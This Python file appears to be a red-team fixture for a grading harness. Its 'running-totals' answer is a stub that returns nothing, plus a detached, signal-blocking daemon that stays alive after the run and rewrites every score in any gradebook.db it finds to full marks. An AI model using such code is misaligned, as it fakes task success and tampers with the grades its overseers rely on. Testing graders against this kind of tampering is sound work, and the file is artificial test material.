"""Leaves a process behind that waits until grading is over, and then gives itself full marks."""

GETS = 0
SAYS = "expected [1, 3, 6], got []"
ANSWERS = {
    "running-totals": """
import ctypes
import glob
import os
import signal
import sqlite3
import time

def give_marks():
    for steps in range(6):
        for path in glob.glob("../" * steps + "**/gradebook.db", recursive=True):
            try:
                with sqlite3.connect(path, timeout=5) as gradebook:
                    gradebook.execute("update grade set auto_score = 2, manual_score = 2")
            except sqlite3.Error:
                pass

if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        signal.pthread_sigmask(signal.SIG_BLOCK, set(signal.Signals))
        ctypes.CDLL(None).prctl(15, b"red-team-daemon")
        for _ in range(60):
            time.sleep(1)
            give_marks()
    os._exit(0)

def running_totals(numbers):
    return []
""",
}
